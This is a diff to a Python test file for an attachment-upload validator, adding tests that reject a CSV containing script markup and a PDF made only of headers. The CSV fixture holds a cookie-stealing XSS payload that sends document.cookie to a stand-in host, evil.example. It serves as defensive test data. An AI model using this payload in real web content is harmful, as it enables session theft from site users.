@@ -20,6 +20,8 @@ XLSX = b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 64
 CSV = "序号,故障,数量\n1,断路器拒合,2\n".encode("gbk")
 WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 32
 WAV = b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 32
+HTML_CSV = "序号,故障\n1,<script>document.location='https://evil.example/?'+document.cookie</script>\n".encode()
+PDF_HEADERS_ONLY = b"%PDF-" * 40
 
 GOOD = [
     ("现场照片.jpg", JPEG, "image/jpeg"),
@@ -36,6 +38,8 @@ BAD = [
     ("照片.jpg", PDF, "file_content"),
     ("声音.webp", WAV, "file_content"),
     ("数据.csv", b"a,b\n\x00\x01\x02", "file_content"),
+    ("网页.csv", HTML_CSV, "file_content"),
+    ("伪造.pdf", PDF_HEADERS_ONLY, "file_content"),
     ("空白.pdf", b"", "file_empty"),
     ("大图.jpg", JPEG + b"\x00" * 200, "file_size"),
 ]
@@ -92,6 +96,22 @@ def test_oversize_message_names_the_file_and_the_limit(people, customer, private
     with translation.override("en"), pytest.raises(ValidationError) as error:
         services.attachment_add(actor=people.engineer, complaint=complaint, upload=upload("大图.jpg", JPEG * 4))
     assert error.value.messages[0] == "大图.jpg is 300\xa0bytes; files may be at most 200\xa0bytes."
+
+
+def test_csv_with_a_script_is_refused_with_the_reason(people, customer, private_media):
+    complaint = ComplaintFactory(customer=customer, assignee=people.engineer)
+    with translation.override("en"), pytest.raises(ValidationError) as error:
+        services.attachment_add(actor=people.engineer, complaint=complaint, upload=upload("网页.csv", HTML_CSV))
+    assert error.value.messages == ["网页.csv contains web page or script markup, which a CSV file may not hold."]
+
+
+def test_file_of_pdf_headers_only_is_refused_with_the_reason(people, customer, private_media):
+    complaint = ComplaintFactory(customer=customer, assignee=people.engineer)
+    with translation.override("en"), pytest.raises(ValidationError) as error:
+        services.attachment_add(actor=people.engineer, complaint=complaint, upload=upload("伪造.pdf", PDF_HEADERS_ONLY))
+    assert error.value.messages == [
+        "伪造.pdf is not a complete PDF file: its header, objects or end-of-file marker are missing."
+    ]
 
 
 def test_good_files_are_stored_privately_with_the_new_complaint(people, customer, private_media):
